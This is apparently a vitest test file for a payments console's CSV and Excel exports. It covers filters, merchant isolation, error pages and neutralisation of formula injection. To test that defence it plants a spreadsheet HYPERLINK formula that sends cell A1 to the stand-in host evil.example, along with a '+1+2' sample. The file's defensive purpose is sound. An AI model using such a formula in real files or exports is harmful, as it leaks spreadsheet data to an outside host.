// The console's list exports (kit/exports.ts) at the HTTP level, on a real database: collections,
// batches, one batch's lines (its results file) and single payouts as CSV and as Excel workbooks.
// Each file holds every row the list's filters keep, in the list's order, with the list's columns;
// a text a customer or merchant typed that a spreadsheet would run as a formula arrives inert (CSV:
// a leading apostrophe; workbook: a string cell, never a formula); another merchant's rows are never
// in a file and another merchant's batch is the 404 page; a refused filter is the list's 400, never
// a 500; a signed-out visitor is sent to sign in; the lists link to their files with the filters
// on screen, also after an htmx swap. The 1,000,000-row run is exports-million.test.ts.
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ConsoleClient, consoleUser } from './client.ts';
import { merchantsAndAdmin } from './fixtures.ts';
import { startTestApp, type TestApp, type TestMerchant } from '../helpers.ts';
import { addJson, addMerchantUser, APPROVER, CAPTURER, REVIEWER, collectionReference, customPayment, paidSinglePayout, payoutLine, readyBatch, reverseCollection, runPayouts, topup, validateBatch, act, walletLine } from '../money-ops.ts';

const FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")';
const ADDITION = '+1+2';
const BATCH_FILE_HEADERS = [
  'lineNumber',
  'transactionReferenceNumber',
  'beneficiaryName',
  'connectorId',
  'connectorName',
  'beneficiaryAccountNumber',
  'transactionDescription',
  'transactionAmount',
  'transactionFee',
  'currencyCode',
  'sourceReferenceNumber',
  'transactionStatusCode',
  'transactionStatusName',
  'responseCode',
  'responseMessage',
  'errorMessage',
];

let t: TestApp;
let m: TestMerchant;
let other: TestMerchant;
let c: ConsoleClient;
let collectionRefs: string[];
let reversedRef: string;
let formulaRef: string;
let batch: number;
let otherBatch: number;
const singles: string[] = [];

interface Download {
  statusCode: number;
  headers: Record<string, unknown>;
  body: string;
  raw: Buffer;
}

async function download(url: string, client = c): Promise<Download> {
  const cookie = [...client.cookies].map(([k, v]) => `${k}=${v}`).join('; ');
  const res = await t.app.inject({ method: 'GET', url, headers: cookie ? { cookie } : {} });
  return { statusCode: res.statusCode, headers: res.headers, body: res.body, raw: res.rawPayload };
}

/** A CSV file's rows (header first), checked for its byte-order mark and CRLF line ends. */
function csvRows(d: Download): string[][] {
  expect(d.statusCode, d.body.slice(0, 300)).toBe(200);
  expect(d.headers['content-type']).toBe('text/csv; charset=utf-8');
  expect([...d.raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  expect(d.body.endsWith('\r\n')).toBe(true);
  expect(d.body.replace(/"[^"]*"/g, '').includes('\n')).toBe(d.body.replace(/"[^"]*"/g, '').includes('\r\n'));
  return parse(d.raw, { bom: true, relax_column_count: false }) as string[][];
}

/** A workbook's first sheet as rows of cell values (header first). */
async function xlsxRows(d: Download): Promise<unknown[][]> {
  expect(d.statusCode, d.body.slice(0, 300)).toBe(200);
  expect(d.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(d.raw as unknown as ArrayBuffer);
  const rows: unknown[][] = [];
  workbook.worksheets[0].eachRow((row) => rows.push((row.values as unknown[]).slice(1)));
  return rows;
}

const column = (rows: unknown[][], name: string) => rows.slice(1).map((r) => r[(rows[0] as string[]).indexOf(name)]);

beforeAll(async () => {
  t = await startTestApp({ PAYOUT_TIMEOUT_SECONDS: '0', PAYOUT_REVERSAL_SECONDS: '0' });
  const cast = await merchantsAndAdmin(t, { merchant: { accountName: 'Chikondi Stores' } });
  ({ m, other } = cast);
  collectionRefs = [];
  for (let i = 0; i < 6; i++) {
    const res = await customPayment(t, m, 10_000 + i * 150);
    expect(res.statusCode, res.body).toBe(200);
    collectionRefs.push(collectionReference(res));
  }
  reversedRef = collectionRefs[2];
  expect((await reverseCollection(t, m, reversedRef)).statusCode).toBe(200);
  formulaRef = collectionRefs[4];
  // What a payer's bank names the customer is untrusted: made a formula here, the description a sum.
  await t.db.query('update collections set source_account_name = $2, transaction_description = $3 where transaction_reference_number = $1', [formulaRef, FORMULA, ADDITION]);
  expect((await customPayment(t, other, 77_700)).statusCode).toBe(200);

  // The people who act on batches are the merchant's own users.
  await addMerchantUser(t, m, CAPTURER, 'MERC_ADMIN');
  await addMerchantUser(t, m, REVIEWER, 'MERC_REVIEWER');
  await addMerchantUser(t, m, APPROVER, 'MERC_APPROVER');
  expect((await topup(t, m, 100_000_00)).statusCode).toBe(200);
  expect((await topup(t, other, 10_000_00)).statusCode).toBe(200);
  // A batch of 5 lines, paid: one fails at the connector (9901), one is invalid; one payee named like a formula.
  const lines = [1, 2, 3, 4, 5].map((i) => payoutLine({ amountMinor: 1000_00 + i, channel: i === 4 ? 'bank' : 'wallet', suffix: i === 2 ? '9901' : String(1000 + i) }));
  lines[0].beneficiaryName = FORMULA;
  lines[4].beneficiaryAccountNumber = '12345';
  batch = (await readyBatch(t, m, lines)).batchNumber;
  const transfer = await act(t, m, 'transferFunds', batch);
  expect(transfer.statusCode, transfer.body).toBe(200);
  await runPayouts(t, m);
  for (let i = 0; i < 3; i++) {
    const line = payoutLine({ amountMinor: 500_00 + i, channel: 'wallet', suffix: String(2000 + i) });
    if (i === 1) line.beneficiaryName = 'Tiwonge Nyirenda';
    const res = await paidSinglePayout(t, m, line);
    expect(res.statusCode, res.body).toBe(200);
    singles.push(res.json().transactionReferenceNumber);
  }
  await runPayouts(t, m);
  otherBatch = (await addJson(t, other, [walletLine(1500)])).json().batchNumber;
  await validateBatch(t, otherBatch);

  const viewer = await consoleUser(t, m, { role: 'MERC_VIEWER' });
  c = new ConsoleClient(t, '10.9.7.1');
  expect((await c.signIn(viewer.email, viewer.password)).statusCode).toBe(303);
}, 120_000);

afterAll(async () => {
  await t?.close();
});

describe('the collections export', () => {
  it('is every collection of the merchant, newest first as the list, with its columns, as a CSV attachment', async () => {
    const d = await download('/console/collections.csv');
    const rows = csvRows(d);
    expect(String(d.headers['content-disposition'])).toMatch(new RegExp(`^attachment; filename="collections-${m.merchantAccountNumber}-chikondi-stores-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(rows[0]).toEqual(['transactionDate', 'transactionReferenceNumber', 'transactionCode', 'transactionStatusCode', 'sourceCustomerName', 'sourceAccountNumber', 'sourceReferenceNumber', 'referenceNumber', 'connectorId', 'connectorName', 'transactionAmount', 'transactionFee', 'netAmount', 'currencyCode', 'transactionDescription', 'reversedAt']);
    const { rows: db } = await t.db.query<{ ref: string }>('select transaction_reference_number as ref from collections where merchant_account_number = $1 order by transaction_date desc, collection_id desc', [m.merchantAccountNumber]);
    expect(column(rows, 'transactionReferenceNumber')).toEqual(db.map((r) => r.ref));
    const byRef = new Map(rows.slice(1).map((r) => [r[1], r]));
    expect(byRef.get(collectionRefs[0])!.slice(10, 14)).toEqual(['100.00', expect.stringMatching(/^\d+\.\d{2}$/), expect.stringMatching(/^\d+\.\d{2}$/), 'MWK']);
    expect(byRef.get(reversedRef)![3]).toBe('R');
    expect(byRef.get(reversedRef)![15]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
    expect(rows[1][0]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}Z$/);
  });

  it('applies the list filters (status, search) and never holds another merchant’s collection', async () => {
    expect(column(csvRows(await download('/console/collections.csv?status=R')), 'transactionReferenceNumber')).toEqual([reversedRef]);
    expect(column(csvRows(await download(`/console/collections.csv?search=${formulaRef.slice(2, 10).toLowerCase()}`)), 'transactionReferenceNumber')).toEqual([formulaRef]);
    const all = csvRows(await download('/console/collections.csv?limit=5&after=ignored-by-the-export'));
    expect(all).toHaveLength(collectionRefs.length + 1);
    expect(column(all, 'transactionAmount')).not.toContain('777.00');
  });

  it('writes a formula typed by a customer as inert text: an apostrophe in CSV, a string cell in the workbook', async () => {
    const d = await download(`/console/collections.csv?search=${formulaRef}`);
    expect(d.body).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
    expect(d.body).toContain(`,'+1+2,`);
    const rows = csvRows(d);
    expect(column(rows, 'sourceCustomerName')).toEqual([`'${FORMULA}`]);
    const x = await download(`/console/collections.xlsx?search=${formulaRef}`);
    const sheet = await xlsxRows(x);
    expect(column(sheet, 'sourceCustomerName')).toEqual([FORMULA]);
    expect(column(sheet, 'transactionDescription')).toEqual([ADDITION]);
    // Amounts are numbers; no cell is a formula (a formula reads back as an object with `formula`).
    expect(typeof column(sheet, 'transactionAmount')[0]).toBe('number');
    expect(sheet.flat().some((v) => typeof v === 'object' && v !== null && !(v instanceof Date))).toBe(false);
  });

  it('as a workbook holds the same rows as the CSV, amounts as numbers', async () => {
    const csv = csvRows(await download('/console/collections.csv'));
    const d = await download('/console/collections.xlsx');
    expect(String(d.headers['content-disposition'])).toMatch(/^attachment; filename="collections-\d+-chikondi-stores-\d{4}-\d{2}-\d{2}\.xlsx"$/);
    const sheet = await xlsxRows(d);
    expect(sheet[0]).toEqual(csv[0]);
    expect(column(sheet, 'transactionReferenceNumber')).toEqual(column(csv, 'transactionReferenceNumber'));
    expect(column(sheet, 'transactionAmount')).toEqual(column(csv, 'transactionAmount').map(Number));
  });

  it('answers a refused filter with the list page and its message (400), never a 500', async () => {
    const bad = await download('/console/collections.csv?from=2025-02-30');
    expect(bad.statusCode).toBe(400);
    expect(bad.headers['content-type']).toMatch(/text\/html/);
    expect(bad.body).toContain('id="filter-problem"');
    expect((await download('/console/collections.xlsx?status=Z')).statusCode).toBe(400);
    expect((await download('/console/collections.csv?connector=abc')).statusCode).toBe(400);
  });

  it('is refused to a visitor who is not signed in', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/console/collections.csv' });
    expect(res.statusCode).toBe(303);
    expect(String(res.headers.location)).toContain('/console/sign-in');
  });

  it('is linked from the list with the filters on screen, also in the region an htmx filter change swaps in', async () => {
    const page = await c.get('/console/collections?status=S&search=C&after=');
    expect(page.body).toContain('href="/console/collections.csv?status=S&amp;search=C"');
    expect(page.body).toContain('href="/console/collections.xlsx?status=S&amp;search=C"');
    const region = await c.get('/console/collections?status=R', { 'hx-request': 'true', 'hx-target': 'collections-results' });
    expect(region.body).not.toContain('<html');
    expect(region.body).toContain('href="/console/collections.csv?status=R"');
    expect(region.body).toContain('>Download Excel</a>');
    const chichewa = await c.get('/console/collections?lang=ny');
    expect(chichewa.body).toContain('>Tsitsani CSV</a>');
    await c.get('/console/collections?lang=en');
  });
});

describe('the payouts exports', () => {
  it('lists the batches newest first with their progress and totals, filtered by status', async () => {
    const rows = csvRows(await download('/console/payouts.csv'));
    expect(rows[0].slice(0, 5)).toEqual(['batchNumber', 'dateCaptured', 'capturedBy', 'batchStatusCode', 'batchStatusDescription']);
    expect(column(rows, 'batchNumber')).toEqual([String(batch)]);
    expect(column(rows, 'numberOfEntries')).toEqual(['5']);
    expect(column(rows, 'numberOfInvalidEntries')).toEqual(['1']);
    expect(column(rows, 'numberOfFailedEntries')).toEqual(['1']);
    expect(csvRows(await download('/console/payouts.csv?status=P'))).toHaveLength(1);
    const sheet = await xlsxRows(await download(`/console/payouts.xlsx?status=${rows[1][3]}`));
    expect(column(sheet, 'batchNumber')).toEqual([batch]);
    expect((await download('/console/payouts.csv?status=nope')).statusCode).toBe(400);
  });

  it("writes a finished batch's results file: a row per payee with batch/download's columns and its outcome", async () => {
    const d = await download(`/console/payouts/batches/${batch}/lines.csv`);
    const rows = csvRows(d);
    expect(String(d.headers['content-disposition'])).toMatch(new RegExp(`^attachment; filename="batch-${batch}-results-${m.merchantAccountNumber}-chikondi-stores-\\d{4}-\\d{2}-\\d{2}\\.csv"$`));
    expect(rows[0].slice(0, BATCH_FILE_HEADERS.length)).toEqual(BATCH_FILE_HEADERS);
    expect(column(rows, 'lineNumber')).toEqual(['1', '2', '3', '4', '5']);
    expect(column(rows, 'transactionStatusCode')).toEqual(['S', 'F', 'S', 'S', 'E']);
    expect(column(rows, 'transactionAmount')[0]).toBe('1000.01');
    expect(column(rows, 'beneficiaryName')[0]).toBe(`'${FORMULA}`);
    expect(column(rows, 'errorMessage')[4]).not.toBe('');
    expect(column(rows, 'responseCode')[1]).not.toBe('');
    const failed = csvRows(await download(`/console/payouts/batches/${batch}/lines.csv?status=F`));
    expect(column(failed, 'lineNumber')).toEqual(['2']);
    const sheet = await xlsxRows(await download(`/console/payouts/batches/${batch}/lines.xlsx`));
    expect(column(sheet, 'beneficiaryName')[0]).toBe(FORMULA);
    expect(column(sheet, 'transactionAmount')[0]).toBe(1000.01);
    expect(column(sheet, 'lineNumber')).toEqual([1, 2, 3, 4, 5]);
  });

  it("answers another merchant's batch and an unknown one with the 404 page, a refused filter with 400", async () => {
    for (const url of [`/console/payouts/batches/${otherBatch}/lines.csv`, `/console/payouts/batches/${otherBatch}/lines.xlsx`, '/console/payouts/batches/99999999/lines.csv']) {
      const res = await download(url);
      expect(res.statusCode, url).toBe(404);
      expect(res.headers['content-type']).toMatch(/text\/html/);
    }
    expect((await download(`/console/payouts/batches/${batch}/lines.csv?status=Q`)).statusCode).toBe(400);
    expect((await download(`/console/payouts/batches/${batch}/lines.csv?search=${'x'.repeat(101)}`)).statusCode).toBe(400);
  });

  it('lists the single payouts newest first, filtered by search', async () => {
    const rows = csvRows(await download('/console/payouts/single.csv'));
    expect(column(rows, 'transactionReferenceNumber')).toEqual([...singles].reverse());
    expect(rows[0].slice(-8)).toEqual(['levelNumber', 'reviewedBy', 'dateReviewed', 'approvedBy', 'dateApproved', 'rejectedBy', 'rejectionReason', 'dateRejected']);
    const found = await xlsxRows(await download('/console/payouts/single.xlsx?search=tiwonge'));
    expect(column(found, 'transactionReferenceNumber')).toEqual([singles[1]]);
    expect((await download('/console/payouts/single.xlsx?status=W')).statusCode).toBe(400);
  });

  it('links each list to its files with the filters on screen, in the regions htmx swaps too', async () => {
    const batches = await c.get('/console/payouts', { 'hx-request': 'true', 'hx-target': 'batch-results' });
    expect(batches.body).toContain('href="/console/payouts.csv"');
    const lines = await c.get(`/console/payouts/batches/${batch}?status=S&search=26599`, { 'hx-request': 'true', 'hx-target': 'line-results' });
    expect(lines.body).toContain(`href="/console/payouts/batches/${batch}/lines.xlsx?search=26599&amp;status=S"`);
    const single = await c.get('/console/payouts/single?search=Tiwonge');
    expect(single.body).toContain('href="/console/payouts/single.csv?search=Tiwonge"');
    expect(single.body).toContain('>Download Excel</a>');
  });
});
